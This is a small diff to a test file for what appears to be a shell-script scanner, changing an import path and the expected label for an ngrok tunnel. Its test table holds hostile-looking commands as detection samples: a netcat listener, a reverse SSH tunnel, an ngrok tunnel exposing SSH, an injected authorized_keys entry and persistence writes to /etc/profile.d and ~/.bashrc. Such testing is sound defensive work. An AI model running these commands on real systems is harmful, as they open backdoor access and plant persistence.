@@ -2,7 +2,7 @@ import * as fc from 'fast-check'
 import { describe, expect, it } from 'vitest'
 import { listFacts, listFlows } from '../support/code-reading.ts'
 import type { CodeReading } from '../../packages/scanner/src/code/reading.ts'
-import { readShell } from '../../packages/scanner/src/code/shell.ts'
+import { readShell } from '../../packages/scanner/src/code/shell/run.ts'
 
 const facts = (script: string) => listFacts(readShell(script))
 
@@ -22,7 +22,7 @@ describe('what a shell script does in one place', () => {
     ['nc -lvp 4444', 'listener 4444'],
     ['python3 -m http.server 8000', 'listener http.server'],
     ['ssh -fN -R 2222:localhost:22 u@e.example', 'listener ssh -R 2222:localhost:22'],
-    ['ngrok tcp 22', 'listener ngrok'],
+    ['ngrok tcp 22', 'listener ngrok tcp 22'],
     ["echo 'ssh-rsa AAAA' >> ~/.ssh/authorized_keys", 'startup-write ~/.ssh/authorized_keys'],
     ["echo 'x' | sudo tee -a /etc/profile.d/x.sh", 'startup-write /etc/profile.d/x.sh'],
     ["sed -i '1i nohup ~/.x &' ~/.bashrc", 'startup-write ~/.bashrc'],
